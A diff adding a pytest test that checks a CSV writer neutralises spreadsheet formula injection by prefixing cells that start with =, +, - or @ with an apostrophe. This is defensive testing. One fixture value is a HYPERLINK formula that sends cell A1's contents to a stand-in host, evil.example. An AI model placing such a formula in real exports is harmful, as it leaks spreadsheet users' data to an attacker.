@@ -577,6 +577,31 @@ class TestCsvPassThrough:
         assert records[3]["status"] == "invalid"
         assert records[3]["sku"] == "S2"
 
+    def test_a_cell_starting_like_a_formula_is_written_as_text(self, tmp_path: Path) -> None:
+        """A cell a spreadsheet would run as a formula (=, +, -, @ first: a seller's title,
+        a job's own cell) gets a leading ' so it shows as text; a number is left as it is.
+        They were written as they came (OWASP's CSV injection)."""
+        rows = [
+            JobRow(
+                1,
+                asin(0),
+                asin(0),
+                extra={"sku": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "n": "-1.5"},
+            ),
+            JobRow(2, "@SUM(1)", None, extra={"sku": "+SUM(1)", "n": "+2"}, error="not an ASIN"),
+        ]
+        ledger = Ledger.open(
+            tmp_path / "f.ledger", fingerprint=FP, default_marketplace=US, synchronous="NORMAL"
+        )
+        with ledger:
+            ledger.ingest(rows)
+            ledger.record_results([(lk, result(lk)) for lk in ledger.pending_lookups()])
+            emit_closed(ledger, CsvSink(tmp_path / "out.csv"))
+        first, second = sorted(csv_records(tmp_path / "out.csv"), key=lambda r: int(r["line"]))
+        assert first["sku"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+        assert first["n"] == "-1.5"
+        assert (second["input"], second["sku"], second["n"]) == ("'@SUM(1)", "'+SUM(1)", "+2")
+
     @pytest.mark.parametrize(
         ("name", "column"),
         [
